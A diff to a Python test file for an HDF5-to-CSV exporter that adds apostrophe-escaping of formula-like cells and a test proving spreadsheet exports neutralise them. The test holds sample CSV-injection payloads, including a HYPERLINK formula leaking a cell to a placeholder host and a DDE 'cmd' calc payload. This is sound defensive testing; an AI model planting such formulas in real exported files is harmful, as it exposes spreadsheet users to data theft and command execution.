@@ -49,6 +49,12 @@ def as_text(v):
     return v.decode("utf-8") if isinstance(v, bytes) else str(v)
 
 
+def cell_text(text, excel):
+    """What export writes for a text value: as it is, or for a spreadsheet (--excel) with a
+    leading apostrophe when it starts with a character that would make it a formula."""
+    return "'" + text if excel and text[:1] in ("=", "+", "-", "@", "\t", "\r") else text
+
+
 def axis_values(ds, i):
     """The scale values of dimension i (text or numbers), or None when it has no scale."""
     if len(ds.dims[i]) == 0:
@@ -255,7 +261,7 @@ class ExportTest(unittest.TestCase):
             for name, ds in wanted.items():
                 with self.subTest(dataset=name):
                     self.check_file(os.path.join(out, index[name]["file"]), ds, excel)
-                    self.assertEqual(index[name]["units"], as_text(ds.attrs.get("units", "")))
+                    self.assertEqual(index[name]["units"], cell_text(as_text(ds.attrs.get("units", "")), excel))
         return index
 
     def check_file(self, file, ds, excel):
@@ -282,12 +288,12 @@ class ExportTest(unittest.TestCase):
                 if scales[i] is None:
                     self.assertEqual(row[i], str(pos))
                 elif isinstance(scales[i][pos], (bytes, str)):
-                    self.assertEqual(row[i], as_text(scales[i][pos]))
+                    self.assertEqual(row[i], cell_text(as_text(scales[i][pos]), excel))
                 else:
                     self.assertTrue(number_equal(row[i], float(scales[i][pos])), (row, at))
             v = values[at]
             if isinstance(v, (bytes, str)):
-                self.assertEqual(row[-1], as_text(v))
+                self.assertEqual(row[-1], cell_text(as_text(v), excel))
             else:
                 self.assertTrue(number_equal(row[-1], float(v)), "%s row %d: %r != %r" % (ds.name, k, row[-1], v))
 
@@ -319,6 +325,30 @@ class ExportTest(unittest.TestCase):
         for name in os.listdir(out):
             self.assertRegex(name, r"^[A-Za-z0-9_-][A-Za-z0-9_.-]*\.csv$", "a safe file name")
         self.assertEqual(S.pwned_anywhere(out, self.tmp), [])
+
+    def test_formula_names_are_text_in_a_spreadsheet_export(self):
+        """A scenario named like a formula (=HYPERLINK..., +cmd, -1+1, @SUM) is written with a
+        leading apostrophe for a spreadsheet, so opening the CSV runs nothing; the plain export
+        keeps the name exactly."""
+        names = ['=HYPERLINK("http://example.invalid/?"&A1,"click")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A9)",
+                 "\t=1+1", "normal name"]
+        crafted = os.path.join(self.tmp, "formula.h5")
+        with h5py.File(crafted, "w") as f:
+            scale = f.create_dataset("scenario", data=np.array([n.encode() for n in names], dtype=h5py.string_dtype()))
+            scale.make_scale("scenario")
+            data = f.create_dataset("population/total/mean", data=np.arange(len(names), dtype=float))
+            data.dims[0].attach_scale(scale)
+        for excel in (False, True):
+            with self.subTest(excel=excel):
+                out = self.export(crafted, *(["--excel"] if excel else []))
+                with open(os.path.join(out, "population.total.mean.csv"), newline="",
+                          encoding="utf-8-sig" if excel else "utf-8") as f:
+                    rows = list(csv.reader(f))[1:]
+                got = [r[0] for r in rows]
+                if excel:
+                    self.assertEqual(got, ["'" + n for n in names[:5]] + ["normal name"])
+                else:
+                    self.assertEqual(got, names, "the plain export keeps the names exactly")
 
     def test_file_names_of_a_crafted_file_stay_inside_the_folder(self):
         crafted = os.path.join(self.tmp, "crafted.h5")
